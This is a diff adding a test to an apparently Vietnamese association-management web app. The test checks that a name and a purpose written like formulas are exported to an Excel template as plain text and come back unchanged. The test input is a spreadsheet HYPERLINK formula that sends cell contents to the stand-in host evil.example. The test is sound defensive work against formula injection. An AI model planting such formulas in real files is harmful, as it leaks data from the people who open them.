@@ -506,6 +506,39 @@ describe('Excel: the ministry template of Biểu mẫu 1, filled offline and upl
     expect((await submission(id)).status).toBe('submitted');
   });
 
+  it('writes a formula-like name and purpose as text (check 20); uploaded back, the draft holds them unchanged', async () => {
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Hội Bấm Vào")';
+    const purpose = '+SUM(1,2) tôn chỉ';
+    const page = await staff.get('/quan-tri/hoi/moi');
+    const created = await staff
+      .post('/quan-tri/hoi/moi')
+      .type('form')
+      .send({ _csrf: csrfFrom(page.text), ...BASE, name, purpose });
+    expect(created.status, created.text.slice(0, 1500)).toBe(303);
+    const code = String(created.headers.location).split('/').pop() as string;
+    const row = await t.db.knex('associations').where({ code }).first('id');
+    const officer = await loggedInAgent(t, await createUser(t.db.knex, ['association'], { associationId: row.id }));
+    const template = await download(officer);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(template as unknown as ExcelJS.Buffer);
+    const cells = new Map<string, ExcelJS.CellValue>();
+    wb.getWorksheet(MAIN_SHEET)?.eachRow((r) => {
+      cells.set(String(r.getCell(4).value ?? ''), r.getCell(2).value);
+    });
+    expect(cells.get('name')).toBe(`'${name}`); // a string cell, not a formula
+    expect(cells.get('purpose')).toBe(`'${purpose}`);
+    const read = await readFormWorkbook(template);
+    expect(read.ok && read.values.name).toBe(name);
+    expect(read.ok && read.values.purpose).toBe(purpose);
+
+    const res = await upload(officer, template);
+    expect(res.status, res.text.slice(0, 2000)).toBe(303);
+    const id = Number(/\/hoi-cua-toi\/bieu-mau\/(\d+)$/.exec(String(res.headers.location))?.[1]);
+    const { fields } = await officerForm(officer, id);
+    expect(fields.name).toBe(name);
+    expect(fields.purpose).toBe(purpose);
+  });
+
   it("refuses a file that is not a workbook, and another association's workbook (400, nothing stored)", async () => {
     const before = await t.db.knex('submissions').count<{ n: number }[]>('* as n').first();
     const pdf = await upload(officerB, readFileSync(path.join(FIXTURES, 'sample.pdf')), 'x.xlsx');
